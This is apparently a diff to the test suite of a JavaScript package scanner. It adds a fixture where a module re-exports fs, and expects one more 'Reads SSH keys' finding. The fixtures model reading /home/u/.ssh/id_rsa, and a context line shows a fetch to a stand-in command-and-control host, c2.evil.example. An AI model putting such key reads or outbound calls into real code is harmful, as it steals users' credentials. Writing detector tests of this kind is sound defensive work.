@@ -181,17 +181,20 @@ require("#lib/net").get("https://c2.evil.example/x");`,
         `require("./maybe").readFileSync(${key});`,
         `require("./last").slurp(${key});`,
         `require("./member").readFileSync(${key});`,
+        `require("./left").readFileSync(${key});`,
       ].join("\n"),
       // tsc's output of `export * from "fs"; export function writeFileSync() {}`: the file's own stays.
       "star.js": `"use strict";\nexports.writeFileSync = writeFileSync;\n__exportStar(require("fs"), exports);\nfunction writeFileSync(p, d) { store.set(p, d); }`,
       "sandbox.js": `module.exports = { ...require("fs"), ...require("./memfs") };`,
       "memfs.js": `module.exports = { readFileSync: (p) => store.get(p), writeFileSync: (p, d) => store.set(p, d) };`,
       "maybe.js": `Object.assign(module.exports, require("fs"));\nif (process.env.NEVER) exports.readFileSync = () => "";`,
+      // `exports` still names the object module.exports replaced: writing to it changes nothing exported.
+      "left.js": `module.exports = require("fs");\nexports.readFileSync = () => "";`,
       "last.js": `exports.slurp = require("os").hostname;\nexports.slurp = require("fs").readFileSync;`,
       "member.js": `module.exports = require("./lib").fs;`,
       "lib.js": `exports.fs = require("fs");`,
     };
-    expect(seen(files, "a-index.js")).toEqual(["3 high Reads SSH keys (/home/u/.ssh/id_rsa)", "4 high Reads SSH keys (/home/u/.ssh/id_rsa)", "5 high Reads SSH keys (/home/u/.ssh/id_rsa)"]);
+    expect(seen(files, "a-index.js")).toEqual(["3 high Reads SSH keys (/home/u/.ssh/id_rsa)", "4 high Reads SSH keys (/home/u/.ssh/id_rsa)", "5 high Reads SSH keys (/home/u/.ssh/id_rsa)", "6 high Reads SSH keys (/home/u/.ssh/id_rsa)"]);
   });
 
   it("enters each file once per lookup, however the package's files merge one another", () => {
